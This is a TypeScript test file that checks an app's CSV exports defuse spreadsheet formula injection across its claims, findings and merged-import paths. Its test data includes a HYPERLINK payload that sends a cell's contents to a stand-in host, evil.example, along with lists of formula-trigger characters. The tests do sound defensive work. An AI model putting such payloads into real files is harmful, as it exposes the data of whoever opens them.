import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { WorkspaceService } from '../../../electron/services/workspaceService';
import { LowdbWorkspaceRepository } from '../../../electron/store/lowdbRepository';
import { toClaimsCsv } from '../../../shared/export/claimsCsv';
import { defuseFormula, toExcelCsv } from '../../../shared/export/csvText';
import { toFindingsCsv } from '../../../shared/export/findingsReport';
import { selectForExport } from '../../../shared/export/select';
import { toWorkspaceJson } from '../../../shared/export/workspaceJson';
import type { Workspace } from '../../../shared/schema';
import { sampleWorkspace } from '../export/helpers/workspace';
import { tempDir } from '../helpers';

/** What a spreadsheet would run: a cell whose first character starts a formula. */
const RUNS_AS_FORMULA = /^[=+\-@\t\r]/;

function cellsOf(csv: string): string[] {
  const parsed = Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { skipEmptyLines: true, delimiter: ',' });
  expect(parsed.errors).toEqual([]);
  return parsed.data.flat();
}

/** A multi-line payload per field, each starting with a different formula trigger. */
const payload = (first: string) => `${first}HYPERLINK("http://evil.example/?q="&A1,"bấm vào đây")\ndòng 2: xem chi tiết`;

function poisoned(): Workspace {
  const ws = sampleWorkspace();
  const triggers = ['=', '+', '-', '@', '\t', '\r'];
  let i = 0;
  const next = () => payload(triggers[i++ % triggers.length]!);
  for (const a of ws.articles) Object.assign(a, { title: next(), outlet: next() });
  for (const c of ws.claims) Object.assign(c, { subject: next(), metric: next(), period: next(), unit: next() });
  for (const r of Object.values(ws.reviews)) {
    Object.assign(r, { note: next(), reviewer: next(), evidence: [{ url: 'https://www.gso.gov.vn/x', note: next() }] });
    if (r.status === 'corrected') r.correctedText = next();
  }
  for (const f of ws.findings) Object.assign(f, { explanation: next(), resolution: next() });
  return ws;
}

describe('CSV formula injection', () => {
  it('guards the whole cell: a multi-line "=HYPERLINK(…)⏎dòng 2" is read back with its apostrophe', () => {
    const csv = toExcelCsv(['note', 'value'], [[payload('='), -5], [payload('@'), null], ['5 - 3', 42.13]]);
    const cells = cellsOf(csv);
    expect(cells).toEqual(['note', 'value', `'${payload('=')}`, '-5', `'${payload('@')}`, '', '5 - 3', '42.13']);
    expect(defuseFormula('\r=1+1\ndòng 2')).toBe("'\r=1+1\ndòng 2");
  });

  it('the full-width forms (＝ ＋ － ＠), which some spreadsheets read as their ASCII forms, are defused too', () => {
    const csv = toExcelCsv(['note'], [['＝HYPERLINK("http://x")'], ['＋1'], ['－1'], ['＠SUM(A1)'], ['Giá ＝ 5']]);
    expect(cellsOf(csv)).toEqual(['note', `'＝HYPERLINK("http://x")`, `'＋1`, `'－1`, `'＠SUM(A1)`, 'Giá ＝ 5']);
  });

  it('no cell of the claims or findings CSV starts a formula, whatever text field carries it', () => {
    const ws = poisoned();
    const selection = selectForExport(ws, { statuses: ['unreviewed', 'verified', 'corrected', 'flagged', 'rejected'] });
    for (const lang of ['vi', 'en'] as const) {
      const claimCells = cellsOf(toClaimsCsv(selection, { lang }));
      const findingCells = cellsOf(toFindingsCsv(ws, {}, { lang }));
      const all = [...claimCells, ...findingCells];
      expect(all.filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
      // The payloads are there, only defused — nothing was dropped or cut at the line break.
      const defused = all.filter((cell) => /^'[=+\-@\t\r]HYPERLINK\(.*\ndòng 2: xem chi tiết/s.test(cell));
      expect(defused.length).toBeGreaterThanOrEqual(ws.articles.length + ws.findings.length * 2);
    }
  });

  it('a note from a merged JSON export comes out defused in the CSV the service writes', async () => {
    const dir = await tempDir();
    const ws = sampleWorkspace();
    const jobless = Object.values(ws.reviews).find((r) => r.status === 'corrected')!;
    jobless.note = payload('=');
    jobless.correctedText = payload('+');
    const file = join(dir, 'tu-toa-soan-khac.json');
    await writeFile(file, toWorkspaceJson(ws, { exportedAt: '2026-11-29T00:00:00Z' }));
    const service = await WorkspaceService.open({ repository: new LowdbWorkspaceRepository(join(dir, 'ws.json')), seedsDir: null, defaultReviewer: 'Hà' });
    expect((await service.importPaths([file])).merged).not.toBeNull();
    const out = join(dir, 'claims.csv');
    await service.exportTo(out, { format: 'csv', scope: { statuses: ['corrected'] } });
    const cells = cellsOf(await readFile(out, 'utf8'));
    expect(cells).toContain(`'${payload('=')}`);
    expect(cells.filter((cell) => RUNS_AS_FORMULA.test(cell))).toEqual([]);
  });
});
